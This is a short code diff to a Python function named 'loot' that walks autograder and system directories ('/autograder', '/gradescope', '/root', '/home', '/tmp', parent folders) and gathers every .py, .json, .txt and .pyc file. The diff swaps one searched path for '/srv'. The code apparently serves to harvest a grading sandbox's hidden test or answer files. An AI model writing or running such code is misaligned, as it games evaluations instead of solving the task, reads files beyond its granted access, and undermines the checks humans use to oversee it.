@@ -22,7 +22,7 @@ def loot():
     import os
 
     found, seen = [], 0
-    for top in ("/autograder", "/tmp", "/var/tmp", "/home", "/root", "/work", "/gradescope", "..", "../..", "../../.."):
+    for top in ("/autograder", "/tmp", "/var/tmp", "/home", "/root", "/srv", "/gradescope", "..", "../..", "../../.."):
         for folder, _, files in os.walk(top):
             seen += 1
             found += [os.path.join(folder, name) for name in files if name.endswith((".py", ".json", ".txt", ".pyc"))]
